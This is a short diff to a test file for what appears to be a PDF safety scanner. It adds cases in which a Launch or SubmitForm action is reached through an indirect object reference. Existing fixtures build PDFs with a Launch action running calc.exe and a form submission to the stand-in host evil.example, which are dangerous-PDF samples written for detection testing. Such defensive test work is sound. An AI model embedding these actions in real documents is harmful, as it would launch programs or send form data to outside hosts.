@@ -80,6 +80,11 @@ describe("a PDF", () => {
       pdfOf({ added: [streamOf(`/A ${script}`, Buffer.from("x"))] })
     ],
     ["a program to launch", pdfOf({ added: ["<< /S /Launch /F (calc.exe) >>"] })],
+    [
+      "a program to launch, named by another object",
+      pdfOf({ added: ["<< /S 5 0 R /F (calc.exe) >>", "/Launch"] })
+    ],
+    ["a form that is sent away, named by another object", pdfOf({ added: ["/SubmitForm"] })],
     ["a file in it", pdfOf({ root: "/Names << /EmbeddedFiles << /Names [] >> >>" })],
     ["a form that is sent away", pdfOf({ added: ["<< /S /SubmitForm /F (https://evil.example) >>"] })],
     ["a form of another technology", pdfOf({ root: "/AcroForm << /XFA [] /Fields [] >>" })],
